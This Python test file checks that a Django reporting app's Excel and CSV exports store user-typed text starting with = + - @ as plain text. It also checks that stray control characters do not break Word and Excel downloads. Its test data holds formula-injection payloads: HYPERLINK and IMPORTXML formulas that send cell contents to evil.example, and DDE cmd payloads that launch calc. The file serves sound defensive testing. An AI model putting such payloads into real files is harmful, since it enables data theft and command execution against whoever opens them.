"""What people type never becomes a spreadsheet formula (CSV/formula injection), nor breaks a download.

Text starting with = + - @ goes into the .xlsx exports as text (a string cell with Excel's quote prefix),
the only formulas in a workbook are our own 总计 sums, and the public CSV holds catalogue labels and numbers
only. Control characters stored before they were cleaned on input (or typed in the admin) are left out of
the .docx and .xlsx, whose XML cannot hold them, instead of failing the download.
"""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from reports.exports.county_excel import consolidated_workbook
from reports.county import consolidation
from reports.exports.word import render_docx
from reports.importing import read_document
from reports.exports.excel import analysts_workbook, report_workbook
from reports.models import Organisation, Report
from reports.services import save_values
from reports.workflow import publish

from .conftest import Kind, complete_values, make_org, make_report
from .hostile_support import logged_in
from .workflow_support import set_status

pytestmark = pytest.mark.django_db

INJECTIONS = {
    "preface": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "overview_proactive": "+1+cmd|' /C calc'!A0",
    "overview_on_request": "-2+3",
    "overview_management": "@SUM(1,2)",
    "overview_platform": "\t=1+1",
    "problems": "=1+1",
    "other_matters": "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
}
ORG = "=cmd|' /C calc'!A0西村乡人民政府"
OUR_SUM = re.compile(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)")


@pytest.fixture
def hostile(db):
    county = make_org("=HYPERLINK(\"http://evil.example\")县", Kind.COUNTY_GOV, short_name="@县")
    town = make_org(ORG, parent=county, short_name="-西村乡")
    values = complete_values()
    # Each text starts with the injection; the demo's own text follows, so the report passes the rules.
    values.prose.update({name: f"{text}\n{values.prose[name]}" for name, text in INJECTIONS.items()})
    report = make_report(town, 2023, values, signature_name="+落款")
    return {"county": county, "town": town, "report": report}


def _cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _assert_no_formula_but_ours(data: bytes, texts: list[str]) -> None:
    cells = _cells(data)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert all(OUR_SUM.fullmatch(f) for f in formulas), [f for f in formulas if not OUR_SUM.fullmatch(f)]
    for text in texts:
        holding = [c for c in cells if isinstance(c.value, str) and text in c.value]
        assert holding, text
        for c in holding:
            assert c.data_type == "s", (text, c.coordinate)
            if c.value.startswith(("=", "+", "-", "@", "\t")):
                assert c.quotePrefix, (text, c.coordinate)  # stays text when someone edits the cell


def test_the_report_workbook_keeps_typed_formulas_as_text(hostile):
    data = report_workbook(hostile["report"])
    _assert_no_formula_but_ours(data, [*INJECTIONS.values(), ORG])
    assert any(OUR_SUM.fullmatch(c.value) for c in _cells(data) if c.data_type == "f")  # our sums still are


def test_the_report_workbook_imports_back_with_the_same_text(hostile):
    report = hostile["report"]
    result = read_document("r.xlsx", report_workbook(report))
    for name in INJECTIONS:
        assert result.values.prose[name].strip() == report.values().prose[name].strip(), name


def test_the_analysts_and_county_workbooks_keep_organisation_names_as_text(hostile):
    report = hostile["report"]
    set_status(report, Report.Status.APPROVED)
    _assert_no_formula_but_ours(analysts_workbook(Report.objects.filter(pk=report.pk)),
                                [ORG, hostile["county"].name])
    data = consolidated_workbook(consolidation(hostile["county"], 2023))
    _assert_no_formula_but_ours(data, [ORG, hostile["county"].name])
    assert not [c for c in _cells(data) if c.data_type == "f"]


def test_the_workbook_downloads_answer_with_the_text_intact(hostile, client):
    from .conftest import Role, make_user

    officer = make_user("officer", hostile["county"], Role.SUPERVISOR)
    client = logged_in(officer)
    report = hostile["report"]
    set_status(report, Report.Status.APPROVED)
    for url in (reverse("report_export_xlsx", args=[report.pk]), reverse("analysts_export"),
                reverse("county_tables_xlsx", args=[hostile["county"].pk, 2023])):
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_no_formula_but_ours(response.content, [ORG])


def test_the_public_csv_holds_no_cell_a_spreadsheet_would_run(hostile, client):
    report = hostile["report"]
    set_status(report, Report.Status.APPROVED)
    officer_org = hostile["county"]
    from .conftest import Role, make_user

    publish(report, by=make_user("officer", officer_org, Role.SUPERVISOR))
    response = client.get(reverse("public_csv", args=[hostile["town"].pk, 2023]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) > 100
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


CONTROL = "含\x01控制\x08字符\x0b换行\x0c分页\x1b[0m"


def test_control_characters_already_stored_are_left_out_of_word_and_excel(hostile):
    report = hostile["report"]
    values = report.values()
    values.prose["problems"] = CONTROL
    save_values(report, values)  # as the admin or an old import could have stored it
    Organisation.objects.filter(pk=hostile["town"].pk).update(short_name="简\x02称")
    report = Report.objects.get(pk=report.pk)
    document = render_docx(report, draft=True)
    from docx import Document

    paragraphs = "\n".join(p.text for p in Document(io.BytesIO(document)).paragraphs)
    assert "含控制字符" in paragraphs and "换行" in paragraphs and "\x01" not in paragraphs
    texts = [c.value for c in _cells(report_workbook(report)) if isinstance(c.value, str)]
    assert "含控制字符\n换行\n分页[0m" in texts
    set_status(report, Report.Status.APPROVED)
    assert _cells(analysts_workbook(Report.objects.filter(pk=report.pk)))
    assert _cells(consolidated_workbook(consolidation(hostile["county"], 2023)))
